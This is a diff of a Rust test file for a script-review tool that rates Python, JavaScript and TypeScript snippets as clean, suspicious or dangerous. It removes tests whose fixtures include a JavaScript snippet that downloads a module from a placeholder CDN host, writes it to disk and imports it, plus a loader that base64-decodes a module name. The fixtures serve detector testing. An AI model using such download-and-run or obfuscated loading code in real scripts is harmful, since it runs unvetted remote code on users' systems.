@@ -1,82 +1,17 @@
 //! Session 48's precision rows for Python, JavaScript and TypeScript scripts (issue 17).
-//! A module loaded by a path whose file name is fixed in the script (`path.join(dir, 'dist',
-//! 'codec.js')`) is a file, not a hidden module name, when only its directory is computed; a
-//! child started in a session of its own that the script waits for or stops is a process of
-//! the run, not one meant to outlive it. Each clean row has its twins: a file name computed
-//! too, decoded, a download written there and loaded, a child never waited for, or another
-//! child waited for instead, stay flagged.
+//! A child started in a session of its own that the script waits for or stops is a process of
+//! the run, not one meant to outlive it; a fixed command name in the project's dependency bin
+//! directory is that dependency's command; a long argv keeps its elements through
+//! `[str(a) for a in argv]`. Each clean row has its twins: a child never waited for, another
+//! child waited for instead, a program of another name or directory, a download written there
+//! and run, or a program from the command line stay flagged.
 
 use terraphim_script_review::{Language, Verdict};
 
 use crate::rows;
 
-use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
+use Language::{Python as Py, TypeScript as Ts};
 use Verdict::{Clean, Dangerous, Suspicious};
-
-/// `require(path.join(dir, 'lib', <name>))` in a loader whose directory comes from the command
-/// line: with a fixed file name it is that file; with a computed or decoded name it stays a
-/// module hidden by its name.
-#[test]
-fn a_module_file_of_a_fixed_name_in_a_computed_directory() {
-    let loader = |name: &str| {
-        format!(
-            "const path = require('path');\n\nfunction loadCodec(dir) {{\n  return require(path.join(dir, 'lib', {name}));\n}}\n\nconst codec = loadCodec(process.argv[2] || '.');\nconsole.log(codec.version);\n"
-        )
-    };
-    let ts_suite = |file: &str| {
-        format!(
-            "import * as path from 'node:path';\n\nasync function runSuite(tree: string): Promise<number> {{\n  const mod = (await import(path.join(tree, 'dist', {file}))) as {{ run: () => number }};\n  return mod.run();\n}}\n\nfor (const tree of process.argv.slice(2)) {{\n  runSuite(tree).then((n) => console.log(`${{tree}}: ${{n}} ms`));\n}}\n"
-        )
-    };
-    rows(&[
-        (Js, loader("'codec.js'"), Clean, ""),
-        (Js, loader("'codec.cjs'"), Clean, ""),
-        (Ts, ts_suite("'bench.mjs'"), Clean, ""),
-        // The file's name computed too: any module at all.
-        (
-            Js,
-            loader("process.argv[3]"),
-            Suspicious,
-            "obfuscated-execution",
-        ),
-        (
-            Js,
-            loader("`${process.env.CODEC}.js`"),
-            Suspicious,
-            "obfuscated-execution",
-        ),
-        (
-            Ts,
-            ts_suite("process.argv[1]"),
-            Suspicious,
-            "obfuscated-execution",
-        ),
-        // A name decoded at run time.
-        (
-            Js,
-            loader("Buffer.from(process.argv[3], 'base64').toString()"),
-            Dangerous,
-            "obfuscated-execution",
-        ),
-        // No extension: resolved through a package's `main`, not a fixed file.
-        (Js, loader("'codec'"), Suspicious, "obfuscated-execution"),
-    ]);
-}
-
-/// A download written under a fixed name into a directory known only at run time, then
-/// loaded from there: the file run holds the download, whatever the loader's shape.
-#[test]
-fn a_download_written_to_a_fixed_name_and_loaded_stays_dangerous() {
-    let code = "const fs = require('fs');\nconst path = require('path');\n\nasync function main(dir) {\n  const res = await fetch('https://cdn.widgets.example.net/boot.mjs');\n  fs.writeFileSync(path.join(dir, 'boot.mjs'), await res.text());\n  await import(path.join(dir, 'boot.mjs'));\n}\n\nmain(process.argv[2]);\n";
-    let report = crate::verdict(Js, code, Dangerous);
-    assert!(
-        report
-            .findings
-            .iter()
-            .any(|f| f.severity == Dangerous && f.category.as_str() == "remote-code"),
-        "{report:#?}"
-    );
-}
 
 /// `Popen(..., start_new_session=True)` for a child the script waits for or stops: its own
 /// session only keeps Ctrl-C for the script. Never waited for, or another child waited for
